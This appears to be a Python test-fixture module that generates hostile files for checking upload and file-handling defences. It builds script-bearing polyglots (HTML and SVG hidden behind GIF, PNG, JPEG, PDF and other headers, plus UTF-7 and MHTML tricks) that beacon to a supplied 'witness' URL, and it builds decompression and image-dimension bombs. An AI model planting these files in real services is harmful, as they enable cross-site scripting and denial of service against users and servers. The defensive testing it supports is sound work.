"""Files that mean harm, and a witness of what they would do if somebody let them."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def script(witness: str, name: str) -> bytes:
    """What a file runs that is run: it tells the witness, and renames whatever shows it."""
    told = f"{witness}/ran?{name}"
    return (
        f"new Image().src='{told}';try{{fetch('{told}',{{mode:'no-cors'}})}}catch(e){{}}"
        "document.title='ran';try{top.document.title='ran'}catch(e){}"
    ).encode()


def page(witness: str, name: str) -> bytes:
    """HTML that runs, in several ways."""
    told = script(witness, name)
    return (
        b"<!doctype html><html><head><script>" + told + b"</script></head>"
        b'<body onload="' + told.replace(b'"', b"&quot;") + b'">'
        b'<img src=x onerror="' + told.replace(b'"', b"&quot;") + b'">'
        b'<meta http-equiv=refresh content="0;url=javascript:' + told + b'">'
        b"<iframe srcdoc='<script>" + told.replace(b"'", b"&#39;") + b"</script>'></iframe>"
        b"</body></html>"
    )


def drawing(witness: str, name: str) -> bytes:
    """The same as SVG."""
    told = script(witness, name)
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
        b'onload="' + told.replace(b'"', b"&quot;") + b'"><script><![CDATA[' + told
        + b"]]></script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='"
        + f"{witness}/ran?{name}'/></foreignObject></svg>".encode()
    )  # fmt: skip


def chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zipped(name: str, data: bytes) -> bytes:
    """A ZIP with one file, packed."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return made.getvalue()


def that_run(witness: str) -> Mapping[str, bytes]:
    """Files that a browser runs if it believes a name, a declared type, or a guess of its own."""

    def html(name: str) -> bytes:
        return page(witness, name)

    def code(name: str) -> bytes:
        return script(witness, name)

    return {
        "html": html("html"),
        "html-after-blanks": b"\r\n\t   " + html("html-after-blanks"),
        "html-in-utf-16": b"\xff\xfe" + html("html-in-utf-16").decode().encode("utf-16-le"),
        "html-in-utf-7": b"+ADw-script+AD4-" + code("html-in-utf-7") + b"+ADw-/script+AD4-",
        "html-after-text": b"Hello there " * 50 + html("html-after-text"),
        "svg": drawing(witness, "svg"),
        "svg-packed": gzip.compress(drawing(witness, "svg-packed")),
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>'
        + code("xhtml")
        + b"</script></head></html>",
        "script": code("script"),
        "gif-and-script": b"GIF89a=1;/*" + bytes(20) + b"*/;" + code("gif-and-script"),
        "gif-and-html": b"GIF89a" + html("gif-and-html"),
        "png-and-html": PNG_HEAD + chunk(b"tEXt", b"x\0" + html("png-and-html")),
        "jpeg-and-html": b"\xff\xd8\xff\xfe\x10\x00" + html("jpeg-and-html"),
        "pdf-and-html": b"%PDF-1.7\n" + html("pdf-and-html"),
        "zip-and-html": html("zip-and-html") + zipped("a", b"x"),
        "mp4-and-html": b"\x00\x00\x00\x18ftypmp42" + html("mp4-and-html"),
        "ogg-and-html": b"OggS" + html("ogg-and-html"),
        "mhtml": b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html("mhtml"),
        "styles": b"@import url(" + witness.encode() + b"/ran?styles);",
    }


MEGA = 1 << 20


def that_burst() -> Mapping[str, bytes]:
    """Small files that are huge to whoever unpacks or decodes them."""
    row = bytes(64 * MEGA)
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    packed = zlib.compress(row, 9)
    inner = zipped("0", row)
    small = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return {
        "zip": zipped("word/document.xml", inner * 20),
        "png": PNG_HEAD + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b""),
        "png-text": PNG_HEAD
        + chunk(b"IHDR", small)
        + chunk(b"zTXt", b"x\0\0" + packed) * 40
        + chunk(b"IEND", b""),
        "gif": b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0)
        + bytes(6) + b",\0\0\0\0" + struct.pack("<HHB", 65_535, 65_535, 0) + b"\x08\x01\x00\x3b",
        "jpeg": b"\xff\xd8\xff\xc0\x00\x11\x08" + struct.pack(">HH", 65_500, 65_500)
        + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
        "webp": b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
    }  # fmt: skip
